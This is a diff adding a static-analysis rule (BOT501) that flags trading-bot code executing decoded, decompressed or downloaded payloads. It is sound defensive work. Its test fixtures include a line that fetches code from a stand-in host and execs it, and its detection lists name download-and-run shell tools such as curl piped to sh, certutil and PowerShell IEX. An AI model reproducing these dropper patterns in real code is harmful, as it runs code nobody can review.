@@ -1,0 +1,295 @@
+"""BOT501: exec/eval/compile of code that is decoded, decompressed or downloaded."""
+from __future__ import annotations
+
+from typing import Dict, List, Optional, Set, Tuple
+
+import libcst as cst
+
+from ...analysis import payloads
+from ...analysis.imports import ImportMap
+from ...analysis.syntax import LiteralPrecheck
+from ...model import Severity
+from ...analysis.literals import literal_str
+from ._family import CODE_BUILTINS, PROCESS, Bot5Walk, Names, obfuscated_str, restricted, strings_in
+from .bot502_obfuscated_import import HOW
+
+PRECHECK = LiteralPrecheck(("exec", "eval", "compile", "system", "popen", "subprocess", "spawn", "startfile",
+                            "pickle.loads", "dill", "pty"))
+
+
+class ExecOfDecodedCode(Bot5Walk):
+    """## What it does
+    Finds `exec()`, `eval()` and `compile()` (also reached through an alias, `builtins.exec`,
+    `getattr(builtins, "exec")` or `__builtins__["exec"]`) whose code is decoded (base64,
+    base32, base85, hex, `bytes.fromhex`, rot13), decompressed (zlib, gzip, bz2, lzma),
+    unmarshalled (`marshal.loads`) or downloaded (`urlopen(...).read()`,
+    `requests.get(...).text`), directly or through variables; `pickle.loads` of a pickle
+    hidden in the code (base64, hex...); `python -c` with decoded code; shell commands that fetch and run a script
+    (`curl ... | sh`, PowerShell `IEX`); a program a function downloads and then starts.  When the layers are literals,
+    botlint undoes them statically (at most 8 layers, 1 MB each; it never runs, imports or
+    unmarshals anything) and says what the hidden code does: the modules it imports, the
+    kinds of host it contacts.
+
+    ## Why is this bad?
+    This is the dropper of nearly every malicious "profit bot" and crypto-stealing package:
+    the visible code trades or does nothing, and one line runs a payload nobody can review,
+    often fetched from the author's server at run time so it can change after you audited it.
+    No trading bot needs to execute encoded or downloaded code.
+
+    ## Example
+    ```python
+    import base64, zlib
+    exec(zlib.decompress(base64.b64decode("eJzLzE0...")))
+    ```
+
+    ## Use instead
+    ```python
+    from strategies import grid  # code you can read, imported normally
+    ```
+
+    ## Known problems
+    Layers are followed through names bound anywhere in the module, not across modules.  A
+    restricted `eval(expr, {"__builtins__": {}}, {})`, `ast.literal_eval`, `DataFrame.eval`
+    and `re.compile` are not reported.  `exec(open("version.py").read())` (a local file) is
+    not reported.
+
+    ## References
+    - [CWE-95: Eval Injection](https://cwe.mitre.org/data/definitions/95.html)
+    - [Checkmarx: the W4SP stealer's layered PyPI droppers](https://checkmarx.com/blog/wasp-attack-on-python-polymorphic-malware-shipped-into-pypi/)
+    """
+
+    CODE = "BOT501"
+    NAME = "exec-of-decoded-code"
+    SEVERITY = Severity.CRITICAL
+    CWE = 95
+    MESSAGE = "Code that is decoded, decompressed or downloaded is executed"
+    PRECHECK = PRECHECK
+    VALID = (
+        'import ast\nvalue = ast.literal_eval(text)\n',
+        'import pandas as pd\ndf = pd.DataFrame()\ndf.eval("a + b")\n',
+        'import re\npattern = re.compile(r"\\d+")\n',
+        'result = eval(expr, {"__builtins__": {}}, {})\n',
+        'exec(open("mypkg/version.py").read())\n',
+        'import base64, hmac, hashlib\nkey = base64.b64decode(secret)\nsig = hmac.new(key, msg, hashlib.sha256)\n',
+    )
+    INVALID = (
+        'import base64\nexec(base64.b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImxzIik="))\n',
+        'import requests\ncode = requests.get("https://example.net/x.py").text\nexec(code)\n',
+        'import builtins, marshal\ngetattr(builtins, "exec")(marshal.loads(blob))\n',
+    )
+
+    def __init__(self, ctx) -> None:
+        super().__init__(ctx)
+        self.calls: List[Tuple[cst.Call, int]] = []  # (call, id of its top-level function or 0)
+        self.func_stack: List[cst.FunctionDef] = []
+
+    def visit_FunctionDef(self, node: cst.FunctionDef) -> None:
+        super().visit_FunctionDef(node)
+        self.func_stack.append(node)
+
+    def leave_FunctionDef(self, original_node: cst.FunctionDef) -> None:
+        self.func_stack.pop()
+
+    def visit_Call(self, node: cst.Call) -> None:
+        self.calls.append((node, id(self.func_stack[0]) if self.func_stack else 0))
+
+    def leave_Module(self, original_node: cst.Module) -> None:
+        un = None
+        for call, _ in self.calls:
+            which = self.code_builtin(call.func)
+            if which is None or not call.args or call.args[0].keyword is not None:
+                continue
+            if which == "eval" and restricted(call):
+                continue
+            un = un or self.unwrapper()
+            payload = un.payload(call.args[0].value)
+            message = describe(which, payload)
+            if not message:
+                _text, how = obfuscated_str(call.args[0].value, self.names)
+                if how in ("chr codes", "reversed"):
+                    message = f"{which}() runs code built from {HOW[how]}: hidden so nobody reads it"
+            if message:
+                self.report(call, message)
+        un = un or self.unwrapper()
+        fetched: Dict[int, Set[str]] = {}  # scope -> what the downloads were saved as (literals, names)
+        for call, scope in self.calls:
+            saved = self._saves_download(call, un)
+            if saved:
+                fetched.setdefault(scope, set()).update(saved)
+        for call, scope in self.calls:
+            name = self.qualify(call.func) or ""
+            if name in PROCESS:
+                message = self._interpreter(call, name, un) or _shell_downloader(call, name) or (
+                    f"{name}() starts a program this function downloads: the code it runs was never in the bot"
+                    if scope in fetched and _names_one_of(call, fetched[scope]) else "")
+            elif name in _UNPICKLE and call.args:
+                payload = un.payload(call.args[0].value)
+                # a pickle hidden in the code itself (unpickling runs it); a pickle a service
+                # sends (hummingbot's order-book snapshots) is a deserialisation risk, not a dropper
+                message = (f"{name}() loads a pickle hidden under {payloads.layer_text(payload.layers)}: "
+                           "unpickling runs code") if payload.decoded and payload.data is not None else ""
+            else:
+                message = ""
+            if message:
+                self.report(call, message)
+
+    def _saves_download(self, call: cst.Call, un: payloads.Unwrapper) -> Set[str]:
+        """What a download is saved as (path literals and names): ``urlretrieve(url, path)``,
+        ``wget.download(url, out=path)``, ``f.write(requests.get(url).content)`` with ``f`` an
+        ``open(path, "wb")``.  Empty when the call saves no download."""
+        name = self.qualify(call.func) or ""
+        if name in ("urllib.request.urlretrieve", "urllib.urlretrieve", "wget.download"):
+            return _refs(call.args[1].value) if len(call.args) > 1 else set()
+        func = call.func
+        if not (isinstance(func, cst.Attribute) and func.attr.value in ("write", "write_bytes") and call.args
+                and un.payload(call.args[0].value).downloaded):
+            return set()
+        target = func.value
+        if isinstance(target, cst.Name):
+            opened = next((v for v in self.names.values.get(target.value, []) if isinstance(v, cst.Call)), None)
+            if opened is not None and opened.args:
+                return _refs(opened.args[0].value)
+            return set()
+        return _refs(target)
+
+    def _interpreter(self, call: cst.Call, name: str, un: payloads.Unwrapper) -> str:
+        """``subprocess.run([sys.executable, "-c", decoded])``: decoded or downloaded code run in
+        a new interpreter."""
+        if not call.args:
+            return ""
+        first = call.args[0].value
+        items = [el.value for el in first.elements] if isinstance(first, (cst.List, cst.Tuple)) else [
+            a.value for a in call.args if a.keyword is None]
+        if not any(literal_str(i) == "-c" for i in items):
+            return ""
+        for item in items:
+            payload = un.payload(item)
+            if payload.decoded or payload.downloaded or payload.layers:
+                message = describe("the interpreter", payload)
+                return f"{name}() starts Python with -c: " + message.replace("the interpreter() runs", "it runs")
+        return ""
+
+
+_UNPICKLE = ("pickle.loads", "dill.loads", "cloudpickle.loads", "_pickle.loads")
+_FETCHERS = ("curl", "wget", "iwr ", "invoke-webrequest", "downloadstring", "downloadfile", "certutil", "bitsadmin",
+             "urlretrieve", "urlopen")
+_RUNNERS = ("| sh", "|sh", "| bash", "|bash", "| python", "|python", "iex", "invoke-expression", "&& ./", "; ./",
+            "chmod +x", "start-process", ".exe", "exec(")
+
+
+def _refs(node: cst.CSTNode) -> Set[str]:
+    """The literals and names an expression is made of (a path and the variables building it)."""
+    out: Set[str] = set()
+    stack = [node]
+    while stack and len(out) < 32:
+        n = stack.pop()
+        if isinstance(n, cst.SimpleString):
+            text = literal_str(n)
+            if text and len(text) >= 3:
+                out.add("'" + text)
+        elif isinstance(n, cst.Name):
+            out.add(n.value)
+        else:
+            stack.extend(n.children)
+    return out
+
+
+def _names_one_of(call: cst.Call, refs: Set[str]) -> bool:
+    """Does the process call name the saved download (its path literal or a name holding it)?"""
+    mine = set()
+    for a in call.args:
+        mine |= _refs(a.value)
+    return bool(mine & refs) or any(r.startswith("'") and r[1:] in strings_in(call) for r in refs)
+
+
+def _shell_downloader(call: cst.Call, name: str) -> str:
+    """``os.system("curl -s https://x/s.sh | sh")``: a command that fetches code and runs it."""
+    text = strings_in(call).lower()
+    if any(f in text for f in _FETCHERS) and any(r in text for r in _RUNNERS):
+        return f"{name}() runs a command that downloads code and runs it: it can change after you reviewed the bot"
+    return ""
+
+
+def describe(which: str, payload: payloads.Payload) -> str:
+    """The finding's message for ``which`` run on ``payload``, or "" when nothing is hidden."""
+    if not (payload.decoded or payload.downloaded or payload.layers):
+        return ""
+    if payload.downloaded:
+        return f"{which}() runs code downloaded at run time" + (
+            f" (then {payloads.layer_text([x for x in payload.layers if x != payloads.DOWNLOAD])})"
+            if len(payload.layers) > 1 else "") + ": it can change after you reviewed the bot"
+    layers = payloads.layer_text(payload.layers)
+    if payload.data is None:
+        if payload.layers[-1:] == [payloads.MARSHAL]:
+            return f"{which}() runs a marshalled code object ({layers}): compiled code nobody can review"
+        if payloads.DECRYPT in payload.layers:
+            return f"{which}() runs code decrypted at run time ({layers}): nobody can review it"
+        return f"{which}() runs code decoded at run time ({layers})"
+    size = f"{len(payload.data):,}{'+' if payload.truncated else ''} bytes"
+    data, stages = payload.data, []
+    for _ in range(MAX_STAGES):
+        inner = _inner_stage(data)
+        if inner is None or inner.data is None:
+            break
+        stages.append(payloads.layer_text(inner.layers))
+        data = inner.data
+    nested = "".join(f", then a second stage under {st}" if i == 0 else f", then {st}" for i, st in enumerate(stages))
+    what = payloads.summarize(data)
+    return (f"{which}() runs a payload hidden under {layers} ({size} decoded){nested}"
+            + (f": the decoded payload {what}" if what else ""))
+
+
+MAX_STAGES = 3  # payloads that decode and exec another payload, followed this deep
+_MAX_STAGE_SIZE = 256 * 1024
+
+
+def _inner_stage(data: bytes) -> Optional[payloads.Payload]:
+    """The payload a decoded payload itself executes (``exec(b64decode(...))`` inside), read
+    by parsing the decoded text (libcst, never ``compile``): None when it has none."""
+    if len(data) > _MAX_STAGE_SIZE or not payloads.looks_like_code(data) or not any(
+            w in data for w in (b"exec", b"eval", b"compile")):
+        return None
+    from ...engine import MAX_BRACKET_DEPTH, bracket_depth
+
+    text = data.decode("utf-8", "replace")
+    if bracket_depth(text) > MAX_BRACKET_DEPTH:
+        return None  # what would overflow libcst's native parser in a file is refused here too
+    try:
+        module = cst.parse_module(text)
+    except Exception:  # noqa: BLE001 - not Python, or not valid: nothing to follow
+        return None
+    names, imports, calls = Names(), ImportMap(), _Calls()
+    try:
+        module.visit(_Imports(imports))
+        cst.visit_batched(module, [names, calls])
+    except RecursionError:
+        return None
+    unwrapper = payloads.Unwrapper(names.values, imports.resolve)
+    for call in calls.calls:
+        func = call.func
+        if isinstance(func, cst.Name) and func.value in CODE_BUILTINS and call.args:
+            found = unwrapper.payload(call.args[0].value)
+            if found.data is not None and found.decoded:
+                return found
+    return None
+
+
+class _Imports(cst.CSTVisitor):
+    def __init__(self, imports: ImportMap) -> None:
+        super().__init__()
+        self.imports = imports
+
+    def visit_Import(self, node: cst.Import) -> None:
+        self.imports.add_import(node)
+
+    def visit_ImportFrom(self, node: cst.ImportFrom) -> None:
+        self.imports.add_import_from(node)
+
+
+class _Calls(cst.BatchableCSTVisitor):
+    def __init__(self) -> None:
+        super().__init__()
+        self.calls: List[cst.Call] = []
+
+    def visit_Call(self, node: cst.Call) -> None:
+        self.calls.append(node)
